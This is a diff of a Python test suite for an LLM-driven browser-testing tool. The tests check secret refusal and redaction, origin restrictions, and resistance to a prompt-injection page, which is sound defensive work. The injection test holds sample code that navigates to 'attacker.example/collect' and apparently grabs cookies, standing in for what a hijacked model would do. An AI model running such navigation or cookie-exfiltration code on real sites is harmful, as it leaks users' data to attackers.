@@ -80,11 +80,13 @@ def script_the_secret_order(llm: ScriptedLLMServer) -> None:
         ),
         step="place the order",
     )
-    # the check fails on purpose, so the page's text reaches an error, the history and classify
+    # the check fails on purpose once the order went in (however long that takes), so the
+    # page's text reaches an error, the history and classify
     llm.on(
         "generate",
         code_answer(
             "def step(page) -> None:\n"
+            '    expect(page.get_by_role("main")).to_contain_text("Thank you")\n'
             '    expect(page.get_by_role("main")).to_contain_text("Thank you, Bob", timeout=1000)\n'
         ),
         step="thanks",
@@ -197,14 +199,14 @@ def api_config(url: str, tmp_path: Path, **changes) -> PrettyConfig:
 
 
 def test_code_holding_a_secret_value_is_refused(
-    shop, tmp_path: Path, llm_env: ScriptedLLMServer
+    shop, tmp_path: Path, llm_env: ScriptedLLMServer, browser
 ) -> None:
     opening = 'def step(page) -> None:\n    page.goto("/login")\n'
     literal = opening + f'    page.get_by_label("Password").fill("{CANARY}")\n'
     proper = opening + '    page.get_by_label("Password").fill(secret("CANARY"))\n'
     llm_env.on("generate", code_answer(literal), code_answer(proper))
     llm_env.on("gate", CLEAN_GATE)
-    with PrettyPlay("t", config=api_config(shop.url, tmp_path)) as t:
+    with PrettyPlay("t", config=api_config(shop.url, tmp_path), browser=browser) as t:
         entry = t.step("type ${CANARY} into the password field of the login page")
     assert [a.outcome for a in entry.history] == ["policy violation"]
     assert "holds the literal value of secret CANARY" in entry.history[0].text
@@ -214,7 +216,7 @@ def test_code_holding_a_secret_value_is_refused(
 
 
 def test_a_secret_value_written_into_the_settings_is_redacted_from_requests(
-    shop, tmp_path: Path, llm_env: ScriptedLLMServer
+    shop, tmp_path: Path, llm_env: ScriptedLLMServer, browser
 ) -> None:
     """The last pass over each request catches what no earlier redaction saw: here a value
     that an engineer pasted into the project's instructions."""
@@ -224,7 +226,7 @@ def test_a_secret_value_written_into_the_settings_is_redacted_from_requests(
     llm_env.on("gate", CLEAN_GATE)
     rules = f"log in as ann with the password {CANARY.upper()} when asked"
     config = api_config(shop.url, tmp_path, instructions=rules)
-    with PrettyPlay("t", config=config) as t:
+    with PrettyPlay("t", config=config, browser=browser) as t:
         t.step("type ${CANARY} into the password field of the login page")
     for request in llm_env.requests:
         text = request.text
@@ -304,7 +306,7 @@ def site() -> Iterator[Site]:
     ],
 )
 def test_navigation_outside_the_origins_is_blocked(
-    site: Site, tmp_path: Path, how: str, code: str
+    site: Site, tmp_path: Path, how: str, code: str, browser
 ) -> None:
     store = CacheStore(tmp_path / "cache", validate=check_code)
     store.write(
@@ -312,7 +314,7 @@ def test_navigation_outside_the_origins_is_blocked(
             CacheKey("t", "step", "leave"), code.replace("{outside}", site.outside), "generated"
         )
     )
-    with PrettyPlay("t", config=api_config(site.app, tmp_path, strict=True)) as t:
+    with PrettyPlay("t", config=api_config(site.app, tmp_path, strict=True), browser=browser) as t:
         with pytest.raises(IncurableStepError) as caught:
             t.step("leave")
         assert not t.page.url.startswith(site.outside)
@@ -325,12 +327,12 @@ def test_navigation_outside_the_origins_is_blocked(
     assert site.outside_hits == []  # the outside origin was never contacted
 
 
-def test_allowed_origins_opens_the_bounds(site: Site, tmp_path: Path) -> None:
+def test_allowed_origins_opens_the_bounds(site: Site, tmp_path: Path, browser) -> None:
     store = CacheStore(tmp_path / "cache", validate=check_code)
     code = PARTNER
     store.write(CacheEntry(CacheKey("t", "step", "visit the partner"), code, "generated"))
     config = api_config(site.app, tmp_path, strict=True, allowed_origins=(site.app, site.outside))
-    with PrettyPlay("t", config=config) as t:
+    with PrettyPlay("t", config=config, browser=browser) as t:
         t.step("visit the partner")
         assert t.page.url == site.outside + "/link"
 
@@ -348,7 +350,7 @@ def test_file_urls_are_refused(shop, tmp_path: Path) -> None:
 
 
 def test_the_injection_page_stays_inside_the_untrusted_block(
-    shop, tmp_path: Path, llm_env: ScriptedLLMServer
+    shop, tmp_path: Path, llm_env: ScriptedLLMServer, browser
 ) -> None:
     follows_goto = 'def step(page) -> None:\n    page.goto("http://attacker.example/collect")\n'
     follows_cookies = (
@@ -368,7 +370,7 @@ def test_the_injection_page_stays_inside_the_untrusted_block(
             "generated",
         )
     )
-    with PrettyPlay("t", config=api_config(shop.url, tmp_path)) as t:
+    with PrettyPlay("t", config=api_config(shop.url, tmp_path), browser=browser) as t:
         t.step("open the promotion")
         entry = t.step("subscribe ann@example.com to the newsletter")
         assert t.page.url == shop.url + "/promo"
